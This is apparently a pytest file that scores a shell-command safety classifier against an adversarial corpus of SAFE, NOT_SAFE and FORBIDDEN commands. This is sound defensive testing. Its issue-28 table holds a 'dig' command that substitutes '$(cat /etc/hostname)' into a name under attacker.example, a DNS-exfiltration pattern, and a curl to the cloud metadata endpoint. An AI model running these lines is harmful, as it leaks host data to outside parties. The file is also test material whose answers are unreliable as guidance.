"""The adversarial command corpus (dev split, copied from shared/corpus/commands).

Scoring per its README: SAFE for a NOT_SAFE/FORBIDDEN case is a security breach (target 0);
RISKY for a FORBIDDEN case is a strictness miss; the SAFE share of SAFE cases is printed.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from netghost.shell.classify import classify
from tests.shell.egress_scopes import INVESTIGATION

CORPUS = Path(__file__).resolve().parents[1] / "data" / "shell" / "commands_dev.jsonl"
ROWS = [json.loads(line) for line in CORPUS.read_text(encoding="utf-8").splitlines() if line.strip()]


def test_corpus_is_the_full_dev_split() -> None:
    assert len(ROWS) == 549
    assert {r["expected"] for r in ROWS} == {"SAFE", "NOT_SAFE", "FORBIDDEN"}


def test_no_unsafe_command_comes_out_safe() -> None:
    breaches = [r["command"] for r in ROWS if r["expected"] != "SAFE" and classify(r["command"]).verdict == "SAFE"]
    assert breaches == []


def test_every_forbidden_case_is_forbidden() -> None:
    misses = [
        (r["command"], classify(r["command"]).reason)
        for r in ROWS
        if r["expected"] == "FORBIDDEN" and classify(r["command"]).verdict != "FORBIDDEN"
    ]
    assert misses == []


def test_structural_cases_are_forbidden() -> None:
    """Every chaining/pipeline/substitution/redirect case is a structural error (ARCHITECTURE.md)."""
    structural = {"chaining", "pipeline", "substitution", "redirect", "here-string", "process-substitution", "backtick"}
    # Only rows that carry a shell operator: e.g. `strace -o FILE` is tagged redirect but is an option.
    rows = [r for r in ROWS if structural & set(r.get("tags") or []) and any(ch in r["command"] for ch in ";|&<>$`")]
    assert len(rows) > 50
    not_forbidden = [r["command"] for r in rows if classify(r["command"]).verdict != "FORBIDDEN"]
    assert not_forbidden == []


# SAFE-labelled rows that issue 28 makes RISKY in any investigation (README: RISKY is acceptable for the
# tricky-benign ones; the others are the issue's explicit rules).
ISSUE28_RISKY = {
    "nslookup -type=ns contoso.com 8.8.8.8": "a DNS query to an explicit server outside the scope is RISKY",
    "curl -s -H 'Metadata: true' 'http://169.254.169.254/metadata/instance/compute/location?api-version=2021-02-01&format=text'":
        "IMDS is a platform endpoint (not SAFE); Metadata is not a standard read header",
    "dig +short '$(cat /etc/hostname).attacker.example'": "the quoted label goes to attacker.example, a zone nobody named",
}


def test_issue28_tightened_rows_ask_a_human() -> None:
    rows = {r["command"]: r for r in ROWS}
    for command in ISSUE28_RISKY:
        assert rows[command]["expected"] == "SAFE"
        assert classify(command, scope=INVESTIGATION).verdict == "RISKY"


def test_no_unsafe_command_comes_out_safe_in_an_investigation() -> None:
    breaches = [r["command"] for r in ROWS if r["expected"] != "SAFE" and classify(r["command"], scope=INVESTIGATION).verdict == "SAFE"]
    assert breaches == []


def test_safe_share(capsys: pytest.CaptureFixture[str]) -> None:
    """The SAFE-labelled rows in an investigation that names the hosts they probe (contoso.com,
    example.com): since issue 28 a probe is SAFE only toward the investigation's destinations."""
    safe_rows = [r for r in ROWS if r["expected"] == "SAFE" and r["command"] not in ISSUE28_RISKY]
    misses = [(r["command"], c.reason) for r in safe_rows if (c := classify(r["command"], scope=INVESTIGATION)).verdict != "SAFE"]
    share = 1 - len(misses) / len(safe_rows)
    default = sum(classify(r["command"]).verdict == "SAFE" for r in safe_rows)
    with capsys.disabled():
        print(f"\ncommands corpus: SAFE-expected auto-run {len(safe_rows) - len(misses)}/{len(safe_rows)} = {share:.1%} "
              f"(investigation scope; {default}/{len(safe_rows)} with the default scope; {len(ISSUE28_RISKY)} rows RISKY by issue 28)")
        for cmd, reason in misses:
            print(f"  usability miss: {cmd!r}: {reason}")
    assert share >= 0.95
